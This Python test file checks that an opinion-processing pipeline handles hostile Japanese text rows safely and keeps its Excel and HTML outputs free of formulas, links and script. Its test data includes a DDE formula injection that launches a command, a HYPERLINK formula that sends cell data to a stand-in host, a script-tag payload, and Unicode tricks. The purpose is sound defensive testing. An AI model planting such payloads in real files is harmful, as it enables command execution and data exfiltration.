"""Text that means harm, through the whole job: told or kept, and nothing lost from the other rows."""

from __future__ import annotations

import json

import openpyxl
import pandas as pd
import pytest

from tests.edges.hostile import opinions, pack
from tests.test_restart import Site

PLAIN = "調査票の様式を全国で統一していただきたい。"
LONG = "統一してほしい。" * 130_000
HOSTILE = {
    "a formula": "=cmd|' /C calc'!A0 の様式を統一していただきたい。",
    "a link": '=HYPERLINK("http://192.0.2.1/?"&amp;A1,"様式") を統一していただきたい。',
    "right to left": "様式を\u202e統一\u202cして\u2066いただき\u2069たい。",
    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff",
    "hidden between": "様\u200b式\u200dを\u2060統\u00ad一していただきたい。",
    "half a pair": "様式&#xD800;を統一していただきたい。",
    "controls": "様式_x0000_を_x0007_統一_x001B_[31mしていただきたい。",
    "piled marks": "様式" + "\u0301\u0489" * 5_000 + "を統一していただきたい。",
    "line after line": "様式を統一していただきたい。" + "\n" * 5_000 + "以上。",
    "brackets": "（" * 10_000 + "様式を統一していただきたい。",
    "one sign": "・" * 30_000,
    "numbers without end": "".join(f"({i})様式を統一していただきたい。" for i in range(1, 100)),
    "a page": "&lt;script&gt;alert(1)&lt;/script&gt;&lt;/script&gt;&lt;!--様式を統一していただきたい。",
    "a megabyte": LONG,
}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    site = Site(tmp_path_factory.mktemp("hostile") / "site")
    pack(site.input, opinions(PLAIN, *HOSTILE.values(), PLAIN + "急ぎたい。").replace(">D1<", ">T1<"))
    site.run()
    return site


def test_every_row_is_accounted_for_and_only_what_cannot_be_read_is_rejected(site: Site) -> None:
    rows = site.rows()
    rejected = pd.read_csv(site.out / "rejected.csv", dtype=str, keep_default_na=False)
    counts = json.loads((site.out / "summary.json").read_text(encoding="utf-8"))["counts"]
    assert counts["rows_in"] == len(HOSTILE) + 2 == rows["opinion_id"].nunique() + len(rejected)
    place = dict(enumerate(HOSTILE, start=3))
    told = {place[int(row)]: reason for row, reason in zip(rejected["row"], rejected["reason"], strict=True)}
    assert told["a megabyte"] == "too_long"
    assert told.keys() <= {"a megabyte", "nothing to see", "one sign"}


def test_every_statement_is_a_piece_of_what_was_sent_and_the_rows_around_are_whole(site: Site) -> None:
    rows = site.rows()
    texts = rows.groupby("opinion_id", sort=False)["text"].apply("".join)
    assert texts.iloc[0] == PLAIN
    assert texts.iloc[-1] == PLAIN + "急ぎたい。"
    by_name = {name: str(number) for number, name in enumerate(HOSTILE, start=3)}
    for name in ("right to left", "hidden between", "piled marks", "brackets"):
        assert texts[by_name[name]] == HOSTILE[name]
    assert texts[by_name["half a pair"]] == "様式\ufffdを統一していただきたい。"


def test_outputs_hold_the_text_as_text(site: Site) -> None:
    book = openpyxl.load_workbook(site.out / "results.xlsx")
    kinds = {cell.data_type for sheet in book for cells in sheet.iter_rows() for cell in cells}
    assert "f" not in kinds
    assert {cell.hyperlink for sheet in book for cells in sheet.iter_rows() for cell in cells} == {None}
    page = (site.out / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)" not in page
    site.check_whole()
